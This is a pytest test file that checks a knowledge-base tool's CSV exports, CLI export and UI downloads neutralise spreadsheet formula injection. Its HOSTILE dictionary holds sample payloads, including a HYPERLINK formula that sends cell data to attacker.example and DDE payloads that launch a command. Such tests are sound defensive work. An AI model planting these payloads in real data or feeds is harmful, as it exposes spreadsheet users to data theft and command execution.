"""CSV injection: every CSV aikb writes neutralises cells a spreadsheet would evaluate (issue 16, case 6).

Over each formula-leading character (= + - @ tab CR), through the writer itself, `aikb export` on both
databases, and the UI's download buttons (the dataframes' raw export switched off).
"""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlmodel import Session

from kb.store.claims import store_extraction
from kb.cli import cli
from kb.csv_safe import FORMULA_LEADS, csv_text, safe_cell, write_csv
from kb.nlp.records import ModelMention
from kb_helpers import add_article, extraction, score

# one hostile value per leading character, as an attacker would write them into a feed
HOSTILE = {
    "=": '=HYPERLINK("http://attacker.example/?d="&A1,"Open report")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t": "\t=1+1 leading tab",
    "\r": "\r=1+1 leading carriage return",
}


def test_every_formula_lead_is_covered():
    assert set(HOSTILE) == set(FORMULA_LEADS)


@pytest.mark.parametrize("lead", list(HOSTILE), ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_text_cell_starting_with_a_formula_lead_is_neutralised(lead):
    value = HOSTILE[lead]
    assert safe_cell(value) == "'" + value
    parsed = list(csv.reader(io.StringIO(csv_text(["title", "n"], [{"title": value, "n": 1}]))))
    assert parsed[1] == ["'" + value, "1"]  # the text survives, one apostrophe in front


def test_numbers_and_harmless_text_are_kept():
    # a negative number in a numeric column is a value, not a formula: it stays a number
    assert safe_cell(-3.5) == -3.5 and safe_cell(-2) == -2 and safe_cell(0) == 0
    assert safe_cell(None) == "" and safe_cell(True) is True
    assert safe_cell("GPT-5 scored 74.5") == "GPT-5 scored 74.5"
    assert safe_cell("a = b") == "a = b"  # only the first character matters
    # the same characters as text are neutralised: text cannot be told from a formula by its look
    assert safe_cell("-3.5") == "'-3.5"
    out = io.StringIO()
    assert write_csv(out, ["model", "value"], [("Tern 3", -3.5), {"model": "=1+1", "value": 74.5}]) == 2
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["model", "value"], ["Tern 3", "-3.5"],
                                                             ["'=1+1", "74.5"]]


def _hostile_store(engine):
    with Session(engine) as s:
        for i, (lead, value) in enumerate(HOSTILE.items()):
            article = add_article(s, f"h{i}", outlet=value, title=value, published="2026-03-0%d" % (i + 1))
            store_extraction(s, article, extraction(
                score("Tern 3", "VistaReason", -3.5 if lead == "-" else 70.0 + i,
                      f"Tern 3 moved by {70 + i} on VistaReason in run {i}."),
                models=(ModelMention("Tern 3", org="Brightwater", focal=True),)), extractor_version="t1")
        s.commit()


def test_cli_export_neutralises_every_hostile_cell(engine, db_url, tmp_path):
    _hostile_store(engine)
    target = tmp_path / "claims.csv"
    result = CliRunner().invoke(cli, ["--db", db_url, "export", "claims", "--format", "csv", "--output", str(target)],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    with open(target, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(HOSTILE)
    cells = [cell for row in rows for name, cell in row.items() if name != "value"]
    assert not [c for c in cells if c.startswith(FORMULA_LEADS)], "a formula-leading cell was written raw"
    assert {r["title"] for r in rows} == {"'" + v for v in HOSTILE.values()}
    assert {r["outlet"] for r in rows} == {"'" + v for v in HOSTILE.values()}
    assert "-3.5" in {r["value"] for r in rows}  # the negative score is still a number
    # stdout goes through the same writer
    stdout = CliRunner().invoke(cli, ["--db", db_url, "export", "claims", "--format", "csv"]).output
    assert not [c for row in csv.reader(io.StringIO(stdout)) for c in row
                if c.startswith(FORMULA_LEADS) and c != "-3.5"]


def test_ui_downloads_use_the_safe_writer_and_raw_dataframe_export_is_off(tmp_path, monkeypatch):
    from streamlit import config as st_config
    from streamlit.testing.v1 import AppTest

    from kb.db import open_engine

    url = f"sqlite:///{tmp_path / 'ui.sqlite3'}"
    _hostile_store(open_engine(url))
    monkeypatch.setenv("AIKB_DATABASE_URL", url)
    app = Path(__file__).resolve().parent.parent / "ui" / "app.py"
    for page, params, key in (("benchmark", {"bench": "VistaReason"}, "leaderboard_csv"),
                              ("model", {"name": "Tern 3"}, "scores_csv")):
        at = AppTest.from_file(str(app), default_timeout=60)
        at.switch_page(f"views/{page}.py")
        for name, value in params.items():
            at.query_params[name] = value
        at.run()
        assert not at.exception, at.exception
        buttons = [el for el in at.get("download_button") if el.proto.id.endswith(key) or key in el.proto.id]
        assert buttons, f"no CSV download on the {page} page"
        assert st_config.get_option("client.disableDataExport") is True
